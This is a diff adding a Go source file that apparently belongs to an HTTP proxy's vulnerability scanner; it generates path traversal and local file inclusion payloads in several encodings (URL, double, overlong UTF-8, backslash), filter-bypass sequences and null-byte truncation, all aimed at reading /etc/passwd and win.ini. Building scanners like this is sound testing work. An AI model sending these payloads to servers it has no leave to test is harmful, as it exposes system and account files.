@@ -0,0 +1,102 @@
+// Package traversal finds path traversal and local file inclusion by making
+// the server read well known files through parameters and path segments.
+package traversal
+
+import (
+	"path"
+	"strings"
+
+	"http-proxy/pkg/scanner"
+)
+
+const (
+	VariantDotDotSlash   = "dot_dot_slash"
+	VariantBackslash     = "backslash"
+	VariantURLEncoded    = "url_encoded"
+	VariantDoubleEncoded = "double_encoded"
+	VariantOverlongUTF8  = "overlong_utf8"
+	VariantFilterBypass  = "filter_bypass"
+	VariantNullByte      = "null_byte"
+	VariantAbsolute      = "absolute"
+	VariantPrefixed      = "prefixed"
+)
+
+// kDepth is the number of parent directories climbed, more than enough to
+// reach the root from usual application directories.
+const kDepth = 8
+
+// kFiles are read by the payloads.
+var kFiles = []scanner.LocalFile{scanner.Passwd, scanner.WinIni}
+
+// encoding writes the parent directory and the directory separator of a
+// variant. Payloads are inserted raw, so that encoded sequences reach the
+// server as they are.
+type encoding struct {
+	variant string
+	up      string
+	slash   string
+	// windows is set for encodings of Windows paths only.
+	windows bool
+}
+
+var kEncodings = []encoding{
+	{variant: VariantDotDotSlash, up: "../", slash: "/"},
+	{variant: VariantBackslash, up: `..%5c`, slash: `%5c`, windows: true},
+	{variant: VariantURLEncoded, up: "%2e%2e%2f", slash: "%2f"},
+	{variant: VariantDoubleEncoded, up: "%252e%252e%252f", slash: "%252f"},
+	{variant: VariantOverlongUTF8, up: "%c0%ae%c0%ae%c0%af", slash: "%c0%af"},
+	// Filters removing "../" once leave a traversal behind.
+	{variant: VariantFilterBypass, up: "....//", slash: "/"},
+}
+
+// payload is a raw value which reads file.
+type payload struct {
+	variant string
+	file    scanner.LocalFile
+	raw     string
+}
+
+// payloads returns the payloads replacing value, from the plainest to the
+// most evasive.
+func payloads(value string) []payload {
+	var payloads []payload
+	add := func(variant string, file scanner.LocalFile, raw string) {
+		payloads = append(payloads, payload{variant: variant, file: file, raw: raw})
+	}
+
+	for _, file := range kFiles {
+		for _, e := range kEncodings {
+			if e.windows && !file.Windows {
+				continue
+			}
+			add(e.variant, file, strings.Repeat(e.up, kDepth)+relative(file, e.slash))
+		}
+
+		// The server may append an extension, which a null byte cuts off
+		// in languages passing the path to C.
+		add(VariantNullByte, file, strings.Repeat("../", kDepth)+relative(file, "/")+"%00"+path.Ext(value))
+
+		if file.Windows {
+			add(VariantAbsolute, file, strings.ReplaceAll(file.Path, "/", `%5c`))
+		} else {
+			add(VariantAbsolute, file, file.Path)
+		}
+		add(VariantAbsolute, file, file.URL())
+
+		// The server may check that the value starts with its directory.
+		if dir := path.Dir(value); dir != "." && dir != "/" {
+			add(VariantPrefixed, file, dir+"/"+strings.Repeat("../", kDepth)+relative(file, "/"))
+		}
+	}
+	return payloads
+}
+
+// relative returns the path of file from the root, without the drive, with
+// slash as separator.
+func relative(file scanner.LocalFile, slash string) string {
+	p := file.Path
+	if i := strings.Index(p, ":"); i != -1 {
+		p = p[i+1:]
+	}
+	return strings.ReplaceAll(strings.TrimPrefix(p, "/"), "/", slash)
+}